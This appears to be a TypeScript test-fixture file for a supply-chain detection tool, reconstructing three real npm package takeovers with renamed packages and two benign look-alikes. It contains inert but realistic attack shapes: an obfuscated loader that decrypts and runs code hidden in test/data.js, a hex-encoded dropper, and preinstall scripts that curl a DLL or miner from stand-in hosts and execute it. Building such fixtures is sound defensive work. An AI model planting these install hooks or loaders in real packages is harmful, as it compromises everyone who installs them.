/**
 * Reconstructions of public takeover write-ups (names changed, hosts `.invalid`, payloads inert),
 * and benign look-alikes. Provenance: the write-up each one follows.
 */
import { person, type Reconstruction, type ReleaseSpec } from './reconstruct.js';

const LIB = "'use strict';\nvar Stream = require('stream');\nmodule.exports = function merge(a, b) { return a.concat(b); };\n";
const hex = (n: number, seed: number): string =>
  Array.from({ length: n }, (_, i) => ((i * 7919 + seed * 104729) % 256).toString(16).padStart(2, '0')).join('');
/** One long minified line that reads an encrypted blob from a "test" file (the flatmap-stream loader shape). */
const MINIFIED = `!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(${JSON.stringify(Buffer.from('env').toString('hex'))})][e(${JSON.stringify(Buffer.from('npm_package_description').toString('hex'))})],u=r(e(${JSON.stringify(Buffer.from('crypto').toString('hex'))}))[e(${JSON.stringify(Buffer.from('createDecipher').toString('hex'))})](e("6165732d3235362d636263"),o),a=u.update(n[0],e("686578"),e("75746638"));a+=u.final(e("75746638"));var f=new module.constructor;f.paths=module.paths,f[e("5f636f6d70696c65")](a,""),f.exports(n[1])}catch(r){}}();var Stream=require("stream");module.exports=function(r){var t=new Stream.Transform({objectMode:!0});return t._transform=function(t,e,n){var o=this;Promise.resolve(r(t)).then(function(r){(Array.isArray(r)?r:[r]).forEach(function(r){o.push(r)}),n()},n)},t};${'t.push(r[0]);'.repeat(80)}\nrequire("./test/data");\n`;
const DATA = `module.exports = [\n  "${hex(700, 1)}",\n  "${hex(300, 2)}"\n];\n`;

const rel = (version: string, publisher: string, time: string, extra: Partial<ReleaseSpec> = {}): ReleaseSpec => ({
  version,
  publisher,
  time,
  files: { 'index.js': LIB },
  dependencies: { 'through-lite': '^2.3.1' },
  ...extra,
});

/** event-stream 3.3.5/3.3.6 → flatmap-stream 0.1.1 (Sep–Nov 2018). */
export const DORMANT_HANDOVER_PAYLOAD_DEPENDENCY: Reconstruction = {
  id: 'dormant-handover-payload-dependency',
  family: 'handover + new payload dependency',
  provenance:
    'event-stream incident write-ups (GitHub dominictarr/event-stream#116, Nov 2018; npm blog "Details about the event-stream incident", Nov 2018): the author handed a dormant package to a volunteer who added a brand-new dependency by another new account; its next release shipped a minified entry point and an encrypted test/data.js absent from its repository.',
  packages: [
    { name: 'through-lite', releases: [rel('2.3.1', 'tess', '2014-05-01T10:00:00.000Z', { dependencies: {} })] },
    {
      name: 'stream-joiner',
      releases: [
        rel('3.3.2', 'alice', '2015-03-01T10:00:00.000Z'),
        rel('3.3.3', 'alice', '2015-09-01T10:00:00.000Z'),
        rel('3.3.4', 'alice', '2016-01-10T10:00:00.000Z'),
        rel('3.3.5', 'mallory', '2018-09-04T10:00:00.000Z', { maintainers: ['alice', 'mallory'] }),
        rel('3.3.6', 'mallory', '2018-09-09T10:00:00.000Z', {
          maintainers: ['alice', 'mallory'],
          dependencies: { 'through-lite': '^2.3.1', 'flat-map-lite': '^0.1.0' },
        }),
      ],
    },
    {
      name: 'flat-map-lite',
      releases: [
        { version: '0.1.0', publisher: 'flatdev', time: '2018-09-05T08:00:00.000Z', main: 'index.js', files: { 'index.js': LIB } },
        {
          version: '0.1.1',
          publisher: 'flatdev',
          time: '2018-10-05T08:00:00.000Z',
          main: 'index.min.js',
          files: { 'index.js': LIB, 'index.min.js': MINIFIED, 'test/data.js': DATA },
        },
      ],
    },
  ],
  locked: { 'stream-joiner': '3.3.6', 'flat-map-lite': '0.1.1', 'through-lite': '2.3.1' },
  edges: { 'stream-joiner': ['flat-map-lite', 'through-lite'] },
  sources: {
    'flat-map-lite': [
      {
        author: person('flatdev'),
        date: '2018-09-05T07:00:00Z',
        message: 'initial',
        files: {
          'index.js': LIB,
          'README.md': '# flat-map-lite\n',
          'package.json': '{"name":"flat-map-lite","version":"0.1.0","main":"index.js"}\n',
        },
        tag: 'v0.1.0',
      },
      {
        author: person('flatdev'),
        date: '2018-10-05T07:00:00Z',
        message: '0.1.1',
        files: {
          'package.json': '{"name":"flat-map-lite","version":"0.1.1","main":"index.js"}\n',
          'test/index.js': "require('../index.js');\n",
        },
        tag: 'v0.1.1',
      },
    ],
  },
  expect: { subject: 'stream-joiner@3.3.6', names: ['mallory', 'flat-map-lite', 'index.min.js', 'test/data.js'] },
};

const CLI = "'use strict';\nmodule.exports = function parse(argv) { return argv.slice(2); };\n";
/** An obfuscated dropper's shape: hex-encoded strings decoded and handed to child_process (inert: `.invalid` host). */
const DROPPER = `const _0x = ['${Buffer.from('child_process').toString('hex')}', '${Buffer.from('curl -s https://dl.example.invalid/sdd.dll -o sdd.dll').toString('hex')}'];\nconst d = (h) => Buffer.from(h, 'hex').toString();\nrequire(d(_0x[0])).exec(d(_0x[1]) + ' ${'&& echo '.repeat(1)}${'a1b2c3d4'.repeat(60)}');\n`;

/** coa / rc (Nov 2021): a maintainer account hijacked after ~3 years without a release. */
export const DORMANT_ACCOUNT_HIJACK: Reconstruction = {
  id: 'dormant-account-hijack',
  family: 'hijacked account + install-time dropper',
  provenance:
    "coa and rc compromise (Nov 4 2021; GHSA-73qr-pfmq-6rp8, GHSA-g2q5-5433-rhrf; write-ups by C. Tumbleson and Checkmarx): after about three years without a release, new versions were published from the maintainer's account with a preinstall running compile.js/compile.bat, files absent from the GitHub repository, which saw no change.",
  packages: [
    {
      name: 'opt-parse-lite',
      releases: [
        {
          version: '2.0.1',
          publisher: 'veteran',
          time: '2018-06-01T10:00:00.000Z',
          main: 'index.js',
          files: { 'index.js': CLI },
          gitHead: 'a'.repeat(40),
        },
        {
          version: '2.0.2',
          publisher: 'veteran',
          time: '2018-12-10T10:00:00.000Z',
          main: 'index.js',
          files: { 'index.js': CLI },
          gitHead: 'b'.repeat(40),
        },
        {
          version: '2.0.3',
          publisher: 'veteran',
          time: '2021-11-04T13:00:00.000Z',
          main: 'index.js',
          scripts: { preinstall: 'start /B node compile.js & node compile.js' },
          files: {
            'index.js': CLI,
            'compile.js': DROPPER,
            'compile.bat': '@echo off\ncurl https://dl.example.invalid/sdd.dll -o sdd.dll\nregsvr32.exe -s sdd.dll\n',
          },
        },
      ],
    },
  ],
  locked: { 'opt-parse-lite': '2.0.3' },
  edges: {},
  sources: {
    'opt-parse-lite': [
      {
        author: person('veteran'),
        date: '2018-06-01T09:00:00Z',
        message: '2.0.1',
        files: { 'index.js': CLI, 'package.json': '{"name":"opt-parse-lite","version":"2.0.1","main":"index.js"}\n' },
        tag: 'v2.0.1',
      },
      {
        author: person('veteran'),
        date: '2018-12-10T09:00:00Z',
        message: '2.0.2',
        files: { 'package.json': '{"name":"opt-parse-lite","version":"2.0.2","main":"index.js"}\n' },
        tag: 'v2.0.2',
      },
    ],
  },
  expect: { subject: 'opt-parse-lite@2.0.3', names: ['compile.js', 'preinstall'] },
};

/** ua-parser-js (Oct 2021): an active package's account hijacked; a preinstall in patch releases. */
export const ACTIVE_ACCOUNT_HIJACK: Reconstruction = {
  id: 'active-account-hijack',
  family: 'hijacked account + install-time dropper',
  provenance:
    "ua-parser-js 0.7.29 / 0.8.0 / 1.0.0 (Oct 22 2021; GHSA-pjwm-rvh2-c87w; Mandiant UNC3379, Checkmarx, Rapid7): published from the maintainer's hijacked account of an actively maintained package, adding a preinstall that ran preinstall.sh / preinstall.bat to fetch a miner and a credential stealer.",
  packages: [
    {
      name: 'agent-sniff',
      releases: [
        { version: '0.7.27', publisher: 'owner', time: '2021-08-01T10:00:00.000Z', main: 'index.js', files: { 'index.js': CLI } },
        { version: '0.7.28', publisher: 'owner', time: '2021-09-10T10:00:00.000Z', main: 'index.js', files: { 'index.js': CLI } },
        {
          version: '0.7.29',
          publisher: 'owner',
          time: '2021-10-22T12:15:00.000Z',
          main: 'index.js',
          scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' },
          files: {
            'index.js': CLI,
            'preinstall.js': "const { exec } = require('child_process');\nexec('bash preinstall.sh');\n",
            'preinstall.sh':
              '#!/bin/sh\ncurl -s http://203.0.113.7/jsextension -o jsextension && chmod +x jsextension && ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 &\n',
          },
        },
      ],
    },
  ],
  locked: { 'agent-sniff': '0.7.29' },
  edges: {},
  expect: { subject: 'agent-sniff@0.7.29', names: ['preinstall'] },
};

/** Benign look-alike: a dormant package handed to a co-maintainer who splits it into his own modules. */
export const BENIGN_DORMANT_HANDOVER: Reconstruction = {
  id: 'benign-dormant-handover',
  family: 'benign: handover with own modules',
  provenance:
    'deep-equal 1.1.0 (2019) in the real packuments: after ~4 years without a release a co-maintainer published a minor release adding several small dependencies he had published himself.',
  packages: [
    {
      name: 'is-thing-a',
      releases: [{ version: '1.0.0', publisher: 'helper', time: '2019-07-01T10:00:00.000Z', files: { 'index.js': CLI } }],
    },
    {
      name: 'deep-same',
      releases: [
        rel('1.0.0', 'founder', '2014-06-01T10:00:00.000Z', { dependencies: {}, maintainers: ['founder', 'helper'] }),
        rel('1.0.1', 'founder', '2015-08-01T10:00:00.000Z', { dependencies: {}, maintainers: ['founder', 'helper'] }),
        rel('1.1.0', 'helper', '2019-08-01T10:00:00.000Z', {
          dependencies: { 'is-thing-a': '^1.0.0' },
          maintainers: ['founder', 'helper'],
        }),
      ],
    },
  ],
  locked: { 'deep-same': '1.1.0', 'is-thing-a': '1.0.0' },
  edges: { 'deep-same': ['is-thing-a'] },
  expect: { subject: 'deep-same@1.1.0', names: [] },
};

const ELF = (n: number) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(2048, n)]);

/** Benign look-alike: sharp 0.34.4 → 0.34.5 (an install fallback, new platform packages in its own scope). */
export const BENIGN_PREBUILT_PLATFORMS: Reconstruction = {
  id: 'benign-prebuilt-platforms',
  family: 'benign: prebuilt binaries in own scope',
  provenance:
    'sharp 0.34.5 (2025): the install script gained `|| npm run build`, and @img/sharp-linux-riscv64 and @img/sharp-libvips-linux-riscv64 were added next to the other @img/* platform packages, which ship prebuilt libvips binaries.',
  packages: [
    {
      name: '@imgx/lib-linux-x64',
      releases: [
        {
          version: '1.2.3',
          publisher: 'imgdev',
          time: '2025-09-01T10:00:00.000Z',
          os: ['linux'],
          files: { 'lib/libvips-cpp.so.8.17.2': ELF(1) },
        },
        {
          version: '1.2.4',
          publisher: 'imgdev',
          time: '2025-11-01T10:00:00.000Z',
          os: ['linux'],
          files: { 'lib/libvips-cpp.so.8.17.3': ELF(2) },
        },
      ],
    },
    {
      name: '@imgx/lib-linux-riscv64',
      releases: [
        {
          version: '1.2.4',
          publisher: 'imgdev',
          time: '2025-10-28T10:00:00.000Z',
          os: ['linux'],
          files: { 'lib/libvips-cpp.so.8.17.3': ELF(3) },
        },
      ],
    },
    {
      name: 'imgx',
      releases: [
        {
          version: '0.34.4',
          publisher: 'imgdev',
          time: '2025-09-01T12:00:00.000Z',
          main: 'index.js',
          dependencies: { '@imgx/lib-linux-x64': '1.2.3' },
          scripts: { install: 'node install/check.js', build: 'node install/build.js' },
          files: { 'index.js': CLI, 'install/check.js': "require('./build');\n", 'install/build.js': 'module.exports = 1;\n' },
        },
        {
          version: '0.34.5',
          publisher: 'imgdev',
          time: '2025-11-01T12:00:00.000Z',
          main: 'index.js',
          dependencies: { '@imgx/lib-linux-x64': '1.2.4', '@imgx/lib-linux-riscv64': '1.2.4' },
          scripts: { install: 'node install/check.js || npm run build', build: 'node install/build.js' },
          files: { 'index.js': CLI, 'install/check.js': "require('./build');\n", 'install/build.js': 'module.exports = 2;\n' },
        },
      ],
    },
  ],
  locked: { imgx: '0.34.5', '@imgx/lib-linux-x64': '1.2.4', '@imgx/lib-linux-riscv64': '1.2.4' },
  edges: { imgx: ['@imgx/lib-linux-x64', '@imgx/lib-linux-riscv64'] },
  expect: { subject: 'imgx@0.34.5', names: [] },
};

export const RECONSTRUCTIONS: Reconstruction[] = [DORMANT_HANDOVER_PAYLOAD_DEPENDENCY, DORMANT_ACCOUNT_HIJACK, ACTIVE_ACCOUNT_HIJACK];
export const BENIGN_LOOKALIKES: Reconstruction[] = [BENIGN_DORMANT_HANDOVER, BENIGN_PREBUILT_PLATFORMS];
